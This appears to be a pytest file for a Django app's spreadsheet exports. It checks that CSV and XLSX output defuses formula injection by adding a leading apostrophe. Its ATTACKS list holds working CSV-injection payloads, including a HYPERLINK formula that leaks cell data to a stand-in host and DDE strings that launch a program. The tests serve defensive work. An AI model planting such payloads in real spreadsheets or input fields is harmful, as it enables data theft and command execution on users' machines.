"""Every spreadsheet export neutralises formula injection (OWASP, CSV injection): a text cell
that starts with = + - @, a tab or a carriage return gets a leading apostrophe, so Excel and
LibreOffice show it and never run it. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from ponti.core.exports import safe_cell, safe_row
from tests.exports.helpers import body

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Apri")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_other_cells_are_left_as_they_are() -> None:
    assert safe_row(["Kyoto", "Patto di amicizia", "", None, 12, Decimal("-5.00"), 2.5]) == [
        "Kyoto",
        "Patto di amicizia",
        "",
        None,
        12,
        Decimal("-5.00"),
        2.5,
    ]


@pytest.fixture
def attacked_agreements(make_agreement: Any, make_org: Any) -> list[Any]:
    """Agreements whose titles and partners are formulas (stored straight through the ORM, as
    an import or an old record could hold them)."""
    return [
        make_agreement(title=text, partner=make_org(name=f"{text} partner", country="FR"))
        for text in ATTACKS
    ]


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_agreements_csv_export_neutralises_formulas(
    client: Any, personas: dict[str, Any], attacked_agreements: list[Any]
) -> None:
    client.force_login(personas["ufficio"])
    response = client.get("/accordi/", {"export": "csv"})
    assert response.status_code == 200
    rows = _csv_rows(body(response))[1:]
    titles = {row[1] for row in rows}
    partners = {row[4] for row in rows}
    assert titles == {"'" + text for text in ATTACKS}
    assert partners == {f"'{text} partner" for text in ATTACKS}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_agreements_xlsx_export_neutralises_formulas(
    client: Any, personas: dict[str, Any], attacked_agreements: list[Any]
) -> None:
    client.force_login(personas["ufficio"])
    response = client.get("/accordi/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    titles = {row[1].value for row in sheet.iter_rows(min_row=2)}
    assert titles == {"'" + text for text in ATTACKS}


def _line_with_formulas(budget_line: Any) -> Any:
    from ponti.planning.models import BudgetAmount

    budget_line.description = ATTACKS[0]
    budget_line.number = "-1450"
    budget_line.save()
    BudgetAmount.objects.create(
        line=budget_line, year=2024, initial=Decimal("1000.00"), committed=Decimal("-0.00")
    )
    return budget_line


def _check_budget_sheet(content: bytes) -> None:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    row = [cell for cell in sheet[2]]
    assert not [c.coordinate for c in row if c.data_type == "f"]
    values = [c.value for c in row]
    assert values[2] == "'-1450" and values[3] == "'" + ATTACKS[0]
    assert values[9] == 1000  # the amounts stay numbers


def test_the_budget_lines_xlsx_neutralises_formulas_on_the_page_and_in_the_api(
    client: Any, personas: dict[str, Any], api_as: Any, budget_line: Any
) -> None:
    _line_with_formulas(budget_line)
    client.force_login(personas["responsabile"])
    page = client.get("/programmazione/capitoli/capitoli.xlsx")
    assert page.status_code == 200
    _check_budget_sheet(body(page))
    api = api_as("responsabile").get("/budget-lines/export.xlsx")
    assert api.status_code == 200
    _check_budget_sheet(body(api))
